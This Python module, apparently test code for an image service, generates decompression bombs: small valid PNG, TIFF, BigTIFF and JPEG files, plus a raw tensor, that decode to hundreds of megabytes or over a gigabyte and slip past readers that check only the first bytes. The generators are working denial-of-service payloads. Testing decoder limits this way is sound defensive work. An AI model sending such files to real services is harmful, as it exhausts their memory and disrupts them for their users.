"""Decode bombs: small, valid files that decode to gigabytes, written in code (numpy, zlib, OpenCV).

Each is something a hostile or careless client could send and an older reader let through: its
size sits where a reader that looks only at the first bytes never finds it (a BigTIFF, a TIFF whose
directory follows the pixel data, a JPEG whose frame header follows 128 KB of APP segments), or it
is within the pixel limit but decodes to far more memory than its pixels suggest (39.6 MP of 16-bit
RGBA). Every one is a well-formed file: a reader without a limit decodes it in full (seconds and
1-2 GB). `raw_bomb` is the same attack as a raw pixel tensor (image_raw).
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import cv2
import numpy as np

BOMB_SIDE = 20_000


@dataclass(frozen=True)
class Bomb:
    """One bomb: its name, the encoded bytes (or a raw uint8 array) and what it would decode to."""

    name: str
    data: bytes | np.ndarray
    decodes_to: str


def zeros_zlib(n: int, block: int = 1 << 20) -> bytes:
    """A zlib stream of n zero bytes, built from one fully flushed block repeated (300 MB in 20 ms)."""
    if n < 2 * block:
        return zlib.compress(bytes(n), 9)
    compressor = zlib.compressobj(9)
    first = compressor.compress(bytes(block)) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(bytes(block)) + compressor.flush(
        zlib.Z_FULL_FLUSH
    )  # same for every later block
    count, rest = divmod(n, block)
    tail = zlib.compressobj(9)
    last = tail.compress(bytes(rest)) + tail.flush()
    return first + again * (count - 1) + last[2:-4] + struct.pack(">I", ((n % 65521) << 16) | 1)


def _chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_bomb(width: int = 6300, height: int = 6286, depth: int = 16, color: int = 6) -> bytes:
    """A PNG of zeros; by default 16-bit RGBA (colour type 6) of 39.6 MP: under the 40 MP pixel
    limit, 317 MB decoded, 0.3 MB sent."""
    samples = {0: 1, 2: 3, 4: 2, 6: 4}[color]
    ihdr = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
    idat = _chunk(b"IDAT", zeros_zlib((1 + width * samples * depth // 8) * height))
    return b"\x89PNG\r\n\x1a\n" + ihdr + idat + _chunk(b"IEND", b"")


def tiff_bomb(side: int = BOMB_SIDE, big: bool = False, rows_per_strip: int = 64) -> bytes:
    """RGB (Big)TIFF of zeros, deflate strips, its directory after the pixel data (as libtiff and
    Pillow write it): 1.2 GB decoded from about 1 MB."""
    order, word = "<", 8 if big else 4
    strips = -(-side // rows_per_strip)
    strip = zlib.compress(bytes(rows_per_strip * side * 3), 9)
    head = 16 if big else 8
    offsets_at = head + strips * len(strip)
    counts_at = offsets_at + strips * word
    long_code = "Q" if big else "I"
    offsets = struct.pack(order + long_code * strips, *(head + i * len(strip) for i in range(strips)))
    counts = struct.pack(order + long_code * strips, *([len(strip)] * strips))
    bits_at = counts_at + len(counts)
    ifd_at = bits_at + 6
    long_type = 16 if big else 4  # LONG8 or LONG
    entries = [
        (256, 4, 1, side),
        (257, 4, 1, side),
        (258, 3, 3, bits_at),
        (259, 3, 1, 8),  # deflate
        (262, 3, 1, 2),  # RGB
        (273, long_type, strips, offsets_at),
        (277, 3, 1, 3),
        (278, 4, 1, rows_per_strip),
        (279, long_type, strips, counts_at),
    ]
    field = order + ("HHQQ" if big else "HHII")  # a value that fits sits in the field, little-endian
    directory = struct.pack(order + ("Q" if big else "H"), len(entries))
    for tag, typ, count, value in entries:
        if tag == 258 and big:  # three SHORTs fit in BigTIFF's 8-byte field
            value = 8 | 8 << 16 | 8 << 32
        directory += struct.pack(field, tag, typ, count, value)
    directory += bytes(word)  # no next directory
    magic = b"II" + struct.pack(order + "H", 43 if big else 42)
    header = magic + (struct.pack(order + "HHQ", 8, 0, ifd_at) if big else struct.pack(order + "I", ifd_at))
    bits = struct.pack(order + "HHH", 8, 8, 8)
    return header + strip * strips + offsets + counts + bits + directory


def jpeg_bomb(side: int = BOMB_SIDE, app_bytes: int = 128 * 1024) -> bytes:
    """A 16x16 JPEG whose frame header declares side x side, after `app_bytes` of APP2 segments:
    libjpeg decodes the full size (grey past the data), 1.2 GB, from 0.13 MB."""
    ok, encoded = cv2.imencode(".jpg", np.full((16, 16, 3), 128, np.uint8))
    if not ok:
        raise RuntimeError("OpenCV could not encode a 16x16 JPEG")
    data = bytearray(encoded.tobytes())
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", side, side)
    segments = b""
    while len(segments) < app_bytes:
        segments += b"\xff\xe2" + struct.pack(">H", 65535) + bytes(65533)
    return bytes(data[:2] + segments + data[2:])


def raw_bomb(height: int = 4000, width: int = 4000) -> np.ndarray:
    """A raw uint8 tensor of 48 MB (image_raw): what would grow the Python backend's shared memory."""
    return np.zeros((height, width, 3), np.uint8)


BOMB_KINDS: dict[str, tuple[Callable[[], bytes | np.ndarray], str]] = {
    "bigtiff_20000": (lambda: tiff_bomb(big=True), "20000 x 20000 RGB, 1.2 GB"),
    "tiff_directory_last_20000": (tiff_bomb, "20000 x 20000 RGB, 1.2 GB"),
    "jpeg_sof_after_128k_20000": (jpeg_bomb, "20000 x 20000 RGB, 1.2 GB"),
    "png16_rgba_39mp": (png_bomb, "6300 x 6286 16-bit RGBA, 317 MB (+ conversion)"),
    "raw_4000": (raw_bomb, "a 48 MB image_raw tensor"),
}


def bombs(kinds: tuple[str, ...] | None = None) -> list[Bomb]:
    """One bomb of each kind (all by default), in `BOMB_KINDS` order."""
    chosen = kinds or tuple(BOMB_KINDS)
    unknown = sorted(set(chosen) - set(BOMB_KINDS))
    if unknown:
        raise ValueError(f"unknown bomb kinds {unknown}; known: {sorted(BOMB_KINDS)}")
    return [Bomb(name, BOMB_KINDS[name][0](), BOMB_KINDS[name][1]) for name in chosen]
